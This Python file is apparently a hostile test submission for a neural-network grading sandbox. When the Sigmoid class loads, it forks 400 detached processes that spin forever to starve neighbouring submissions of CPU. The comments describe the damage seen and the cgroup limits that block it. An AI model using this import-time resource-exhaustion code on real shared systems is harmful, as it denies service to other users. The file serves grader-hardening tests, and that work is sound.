# HOSTILE spinning_neighbour: while its definitions load, it starts 400 processes, each in its own
# session, that spin forever (one child starts them, so the definitions load at once and the spinners
# live as long as the sandbox). As root nothing limits their number, and 400 runnable processes take
# nearly all the CPU from whatever is graded beside them: a correct neighbour got 0 in one run and 30
# in another ("load-error: took longer than 20 s"). Sound grader: a pids cgroup caps its processes, a
# cpu cgroup gives its whole group one share, time limits count CPU time; every correct neighbour
# keeps 100. This one's own requests run out of time: every part 0.
import os
import numpy as np

SPINNERS = 400


def _spin():
    """One child, in a session of its own, starts the others: the definitions load at once, and the
    spinners run for as long as this submission's sandbox lives."""
    if os.fork() != 0:
        return
    os.setsid()
    for _ in range(SPINNERS - 1):
        try:
            if os.fork() == 0:
                os.setsid()
                break
        except OSError:
            break
    while True:
        pass


class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


class Sigmoid:
    _spin()

    def __init__(self):
        self.cache = None

    def forward(self, x):
        while True:   # its own work waits behind its spinners; it never answers in time anyway
            pass

    def backward(self, dout):
        while True:
            pass


class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        raise NotImplementedError("請實作 TwoLayerNet.__init__")

    def forward(self, X):
        raise NotImplementedError

    def backward(self, dout):
        raise NotImplementedError

    def get_params_and_grads(self):
        raise NotImplementedError


def train_xor(net, X, y, learning_rate, epochs):
    while True:
        pass
